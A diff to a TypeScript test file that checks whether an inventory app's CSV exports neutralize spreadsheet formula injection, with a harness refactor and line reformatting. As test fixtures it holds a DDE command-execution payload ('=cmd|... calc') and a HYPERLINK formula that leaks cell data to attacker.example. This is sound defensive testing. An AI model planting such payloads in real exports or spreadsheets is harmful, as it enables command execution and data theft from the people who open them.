@@ -1,22 +1,16 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { decodeId } from '../src/node/global-id.js';
 import { createAccount, createEmployee, createItem, createShop } from './support/fixtures.js';
-import { createTestApp, expectTypename, type TestApp } from './support/harness.js';
+import { expectTypename, useTestApp } from './support/harness.js';
 import { adjustInventoryMutation } from './support/inventory.js';
 import { fetchCsv, insertItems, sell } from './support/reports.js';
 
 // CSV exports neutralize formula injection (OWASP "CSV Injection"): a cell of user text that a
 // spreadsheet would run as a formula starts with `'`; quantities stay plain numbers.
 
-let t: TestApp;
-beforeAll(async () => {
-  t = await createTestApp();
-});
-afterAll(async () => {
-  await t?.close();
-});
+const t = useTestApp();
 
-const formulaShop = '=cmd|\' /C calc\'!A0';
+const formulaShop = "=cmd|' /C calc'!A0";
 const formulaNote = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
 
 async function hostileCatalogue() {
@@ -33,15 +27,25 @@ async function hostileCatalogue() {
     sku === 'TAB-1' ? '\tTabbed' : '\rReturned',
   );
   const plain = await createItem(t, token, 'PLAIN-1', 'Plain item');
-  await sell(t, cashier.token, shop.id, [plus, minus, tab!, carriageReturn!, plain].map((item) => ({ itemId: item.id, quantity: 3 })));
+  await sell(
+    t,
+    cashier.token,
+    shop.id,
+    [plus, minus, tab!, carriageReturn!, plain].map((item) => ({ itemId: item.id, quantity: 3 })),
+  );
   expectTypename(
     (await t.run(adjustInventoryMutation, { input: { shopId: shop.id, itemId: plain.id, quantityChange: -2, note: formulaNote } }, token))
       .adjustInventory,
     'AdjustInventoryPayload',
   );
   expectTypename(
-    (await t.run(adjustInventoryMutation, { input: { shopId: shop.id, itemId: minus.id, quantityChange: 1, note: '+1 found behind the shelf' } }, token))
-      .adjustInventory,
+    (
+      await t.run(
+        adjustInventoryMutation,
+        { input: { shopId: shop.id, itemId: minus.id, quantityChange: 1, note: '+1 found behind the shelf' } },
+        token,
+      )
+    ).adjustInventory,
     'AdjustInventoryPayload',
   );
   return { token };
@@ -88,7 +92,9 @@ describe('CSV exports and formula injection', () => {
     const { response, header, records } = await fetchCsv(t, '/reports/negative-inventory.csv', token);
     expect(response.status).toBe(200);
     const rows = byColumn(header, records);
-    expect(rows.map((row) => row['SKU']).sort()).toEqual(["'+SKU-PLUS", "'-SKU-MINUS", "'-SKU-MINUS", 'CR-1', 'PLAIN-1', 'PLAIN-1', 'TAB-1'].sort());
+    expect(rows.map((row) => row['SKU']).sort()).toEqual(
+      ["'+SKU-PLUS", "'-SKU-MINUS", "'-SKU-MINUS", 'CR-1', 'PLAIN-1', 'PLAIN-1', 'TAB-1'].sort(),
+    );
     expect(rows.find((row) => row['SKU'] === "'+SKU-PLUS")).toMatchObject({
       Item: "'@SUM(A1:A9)",
       Shop: `'${formulaShop}`,
